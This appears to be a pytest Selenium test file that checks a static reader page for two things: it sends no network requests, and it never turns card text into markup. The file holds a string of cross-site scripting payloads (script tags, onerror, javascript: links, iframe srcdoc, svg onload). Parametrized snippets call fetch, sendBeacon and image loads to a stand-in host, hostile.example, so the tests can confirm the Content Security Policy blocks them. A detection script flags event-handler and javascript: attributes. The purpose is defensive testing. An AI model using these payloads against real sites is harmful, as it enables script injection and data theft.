"""What the web page never does: ask a network for something, or take a text for markup."""

from __future__ import annotations

import pytest
from selenium.webdriver.common.keys import Keys
from web_browser import CHROMIUM, DRIVER
from web_samples import card, edition, sources

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="needs chromium and chromedriver"),
]


HOSTILE = (
    "</script><script>window.hacked=1</script><img src=x onerror=window.hacked=2>"
    '<a href="javascript:window.hacked=3" onclick="window.hacked=4">a</a>'
    "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe><svg onload=window.hacked=6>"
    "[b](javascript:window.hacked=7) ![c](https://hostile.example/c.png) <!--"
)


FOREIGN = """
const strange = [];
for (const made of document.querySelectorAll("main *"))
  for (const { name, value } of made.attributes)
    if (name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(value) || name === "style" && /url/.test(value))
      strange.push(`${made.tagName} ${name}=${value}`);
return strange;
"""


class TestLocked:
    def test_reading_asks_for_nothing_and_the_console_is_silent(self, open_at, starter_page):
        browser = open_at("#/united-states/2010")
        for link in browser.all(".country")[:5]:
            link.click()
        browser.one("#query").send_keys("missile")
        browser.until(lambda: browser.all(".row.hit"))
        browser.one("#query").send_keys(Keys.ESCAPE)
        browser.until(lambda: browser.all("[role=slider]"))
        assert browser.complaints() == []
        assert browser.requests() == [starter_page.as_uri()]

    def test_no_text_of_a_card_is_ever_markup(self, open_at, make_page):
        line = HOSTILE
        words = {"with": HOSTILE, "condition": HOSTILE, "why": HOSTILE, "risk": HOSTILE}
        one = {
            "bottom_line": HOSTILE,
            "points": [{"topic": HOSTILE, "kind": "fact", "text": HOSTILE, "para": 1}],
            "quotes": [{"text": HOSTILE, "voice": v, "para": 1} for v in ("speaker", "summary")],
            "steps": [{"actor": HOSTILE, "action": HOSTILE, "para": 1, **words}],
        }
        page = make_page(
            {
                "a": {
                    **card(
                        {"source": "t2001", **one},
                        {"source": "t2002", **one, "changed": line},
                    ),
                    "name": line,
                    "region": line,
                    "aliases": [line],
                    "notes": [{"date": "2001", "by": line, "text": line}],
                }
            },
            title=line,
            about=line,
            marking=line,
            sources=sources("2001", "2002", title=line, speaker=line),
        )
        for address in ("#/a/2001", "#/a/2002", "#/a/2001/2002", "#?hacked", "#about", f"#{line}"):
            browser = open_at(address, page)
            assert "<script>" in browser.one("main").text
            assert browser.run("return window.hacked") is None
            assert browser.complaints() == []
            assert browser.all("main script, main img, main iframe, main object, main style") == []
            assert browser.run(FOREIGN) == []
            assert browser.requests() == [page.as_uri()]

    def test_a_web_link_opens_by_click_alone_and_tells_nobody(self, open_at, make_page):
        text = "See [the text](https://a.example/?b=1&c=2) and [this](ftp://a.example)."
        page = make_page({"a": card(edition("t2001", bottom_line=text))}, sources=sources("2001"))
        browser = open_at("#/a/2001", page)
        link = browser.one("a.web")
        assert link.get_attribute("href") == "https://a.example/?b=1&c=2"
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("target") == "_blank"
        assert "[this](ftp://a.example)" in browser.one(".lead").text
        assert browser.requests() == [page.as_uri()]

    @pytest.mark.parametrize(
        ("attack", "stopped"),
        [
            (
                "const i = new Image(); i.src = 'https://hostile.example/'; document.body.append(i)",
                "img-src",
            ),
            ("fetch('https://hostile.example/').catch(() => 0)", "connect-src"),
            ("navigator.sendBeacon('https://hostile.example/', 'x')", "connect-src"),
            (
                "const s = document.createElement('style'); s.textContent = 'p{}'; document.head.append(s)",
                "style-src-elem",
            ),
            (
                "const f = document.createElement('iframe'); f.src = 'https://hostile.example/'; document.body.append(f)",
                "frame-src",
            ),
            ("try { document.body.innerHTML = '<b>x</b>' } catch {}", "require-trusted-types-for"),
            ("try { eval('1') } catch {}", "require-trusted-types-for"),
        ],
    )
    def test_the_policy_stops_what_would_get_past_the_page(self, open_at, attack, stopped):
        browser = open_at("#/georgia/2010")
        # As the page's own code would do it; what the driver runs itself stands outside the policy.
        browser.run(f"setTimeout(() => {{ {attack} }}, 0)")
        browser.until(
            lambda: any(v.startswith(stopped) for v in browser.run("return window.violations"))
        )
        assert not any("hostile.example" in url for url in browser.answers())
